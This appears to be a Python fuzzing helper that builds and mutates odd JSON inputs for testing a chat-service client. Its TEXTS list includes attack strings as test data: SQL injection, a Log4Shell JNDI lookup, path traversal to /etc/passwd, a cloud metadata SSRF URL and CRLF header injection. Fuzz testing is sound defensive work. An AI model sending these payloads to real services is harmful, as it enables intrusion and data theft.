"""Odd texts, numbers and shapes, as a stranger's client or a broken server may send them."""

import random
from collections.abc import Callable

from tests.fuzz.spoiling import odd_number

DEEPEST = 6
NESTED_DEEP = 2_000
"""Of lists in lists: more than a recursive reader takes, and less than a megabyte."""

TEXTS = (
    *("", " ", "\n\n", "\0", "\x00\x1b[31m", "\u202eevil\u202c", "\u200b" * 40, "e\u0301" * 30),
    *("NaN", "Infinity", "-1e999", "1_000", "٣٤٥", "１２", "²", "0x10", "-0", "1e3", "00000001"),
    *("@everyone", "<@&1>", "<@1> <#2> </mimic:3>", "||**__~~`", "```\n", "[a](https://e.example)"),
    *("' OR 1=1 --", "${jndi:ldap://e.example}", "../../etc/passwd", "{0.__class__}", "%s%n"),
    *("<t:99999999999999:R>", "👩‍👩‍👧‍👦" * 20, "\ud7ff\ufffe", "a" * 10_000, "字" * 4_000),
    *("9999-99-99", "99999999999999w", "-3d", "2030-02-31 25:61", "1970-01-01 00:00", "0h", "1e9h"),
    *("javascript:alert(1)", "file:///etc/passwd", "http://127.0.0.1:1/", "https://[::1]/"),
    *("http://169.254.169.254/latest", "https://user:word@e.example/", "https://" + "a" * 5000),
    *("ftp://e.example/x.mp4", "data:video/mp4;base64,AAAA", "https://e.example/\r\nX: y"),
    *("https://1.1.1.1.1/", "https://0x7f000001/", "https://e..example/", "//e.example/x"),
)
NUMBERS = (
    *(0, -1, 1, 100, 2**31, 2**31 - 1, -(2**31), 2**53, 2**63, 2**63 - 1, -(2**63), 2**64),
    *(10**30, 10**400, 0.5, -0.0, 1e308, 5e-324, 1.7976931348623157e308, 99_999, 100_000),
)


class Oddities:
    """Drawn from one source of chance."""

    def __init__(self, chance: random.Random) -> None:
        self.chance = chance

    def text(self) -> str:
        """Any of the odd ones, perhaps two of them, or single characters of anywhere."""
        chance = self.chance
        kinds: tuple[Callable[[], str], ...] = (
            lambda: chance.choice(TEXTS),
            lambda: chance.choice(TEXTS),
            lambda: chance.choice(TEXTS) + chance.choice(TEXTS),
            lambda: "".join(self._character() for _ in range(chance.choice([1, 7, 200]))),
        )
        return chance.choice(kinds)()

    def number(self) -> int | float:
        """At an edge of what somebody may have thought of."""
        if self.chance.random() < 0.3:
            return odd_number(self.chance, 64) - 2**63
        return self.chance.choice(NUMBERS)

    def snowflake(self) -> str:
        """What stands where an id should."""
        return self.chance.choice([str(abs(int(self.number()))), self.text(), "0", "-1"])

    def value(self, depth: int = 0) -> object:
        """Any JSON value."""
        chance = self.chance
        kinds: list[Callable[[], object]] = [
            *(self.text, self.number, self.snowflake),
            lambda: chance.choice([None, True, False]),
            list,
            dict,
        ]
        if depth < DEEPEST:
            kinds += [
                lambda: [self.value(depth + 2) for _ in range(chance.randint(1, 3))],
                lambda: {self.text()[:20]: self.value(depth + 2) for _ in range(2)},
            ]
        return chance.choice(kinds)()

    def changed(self, value: object, depth: int = 0) -> object:
        """A JSON value with one thing in it otherwise: gone, odd, twice, or in another shape."""
        chance = self.chance
        if isinstance(value, dict) and value and (depth < 1 or chance.random() < 0.8):
            name = chance.choice(sorted(value))
            changed = {key: old for key, old in value.items() if key != name}
            if chance.random() < 0.15:
                return changed
            if chance.random() < 0.1:
                return changed | {self.text()[:40]: value[name]}
            return changed | {name: self.changed(value[name], depth + 1)}
        if isinstance(value, list) and value and chance.random() < 0.8:
            at = chance.randrange(len(value))
            if chance.random() < 0.3:
                return value[:at] + value[at + 1 :]
            if chance.random() < 0.2:
                return value * 2
            return [*value[:at], self.changed(value[at], depth + 1), *value[at + 1 :]]
        return self._instead_of(value)

    def _instead_of(self, value: object) -> object:
        chance = self.chance
        shapes: tuple[Callable[[], object], ...] = (
            lambda: [value],
            lambda: {"value": value},
            lambda: str(value),
            lambda: value + self.text() if isinstance(value, str) else self.number(),
            lambda: value[: len(value) // 2] if isinstance(value, str) else None,
        )
        return chance.choice(shapes)() if chance.random() < 0.4 else self.value()

    def _character(self) -> str:
        code = self.chance.choice([self.chance.randrange(0x20), self.chance.randrange(0x10FFFF)])
        return "\ufffd" if 0xD800 <= code < 0xE000 else chr(code)
